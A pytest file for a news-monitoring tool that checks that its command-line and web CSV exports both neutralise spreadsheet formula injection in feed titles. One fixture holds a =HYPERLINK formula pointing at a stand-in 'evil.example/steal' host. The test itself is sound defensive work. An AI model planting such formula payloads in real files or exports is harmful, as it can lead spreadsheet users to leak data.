"""`monitor matches --format csv` and the web's CSV export write through one writer: a
feed title that a spreadsheet would run as a formula comes out as text in both."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from monitor.adapters.db.session import open_database
from monitor.app.cli import main
from monitor.app.web.app import create_app
from tests.http_feeds import FeedServer
from tests.web.conftest import PASSWORD, USER, log_in, rss

pytestmark = pytest.mark.slow(reason="runs `monitor matches` as a real process")

TITLE = '=HYPERLINK("http://evil.example/steal","Vladimir Kozlov detained in Almaty")'
ITEMS = [
    ("f1", TITLE, "Police detained the activist Vladimir Kozlov in Almaty on Monday.", 2),
    (
        "f2",
        "+Vladimir Kozlov moved to a colony",
        "Vladimir Kozlov was transferred to a penal colony near Almaty on Monday.",
        3,
    ),
]
WATCHLIST = "people:\n  - id: kozlov-vladimir\n    name: Vladimir Kozlov\nfeeds:\n  - url: {url}\n"


def cli_csv(database_url: str, folder: Path) -> list[dict[str, str]]:
    """`monitor matches --format csv`, run as its own process."""
    done = subprocess.run(
        [sys.executable, "-m", "monitor.app.cli", "matches", "--format", "csv"],
        cwd=folder,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
        env={**os.environ, "MONITOR_DATABASE_URL": database_url},
    )
    assert done.returncode == 0, done.stderr
    return list(csv.DictReader(io.StringIO(done.stdout)))


def test_formula_titles_are_neutralised_alike_by_the_cli_and_the_web_export(
    database_url: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setenv("MONITOR_DATABASE_URL", database_url)
    watchlist = tmp_path / "watchlist.yaml"
    with FeedServer() as server:
        server.route("/news.rss", body=rss("News", ITEMS, datetime.now(UTC)))
        watchlist.write_text(WATCHLIST.format(url=server.url("/news.rss")))
        assert main(["poll", "--once", "--watchlist", str(watchlist)]) == 0
    monkeypatch.setattr("sys.stdin", io.StringIO(PASSWORD + "\n"))
    assert main(["users", "add", USER, "--watchlist", str(watchlist)]) == 0
    capsys.readouterr()

    from_cli = {row["id"]: row["article_title"] for row in cli_csv(database_url, tmp_path)}
    database = open_database(database_url)
    try:
        with TestClient(create_app(database)) as client:
            log_in(client)
            export = client.get("/matches/export.csv")
    finally:
        database.dispose()
    from_web = {r["id"]: r["article_title"] for r in csv.DictReader(io.StringIO(export.text))}

    assert sorted(from_cli.values()) == ["'+Vladimir Kozlov moved to a colony", "'" + TITLE]
    assert from_web == from_cli
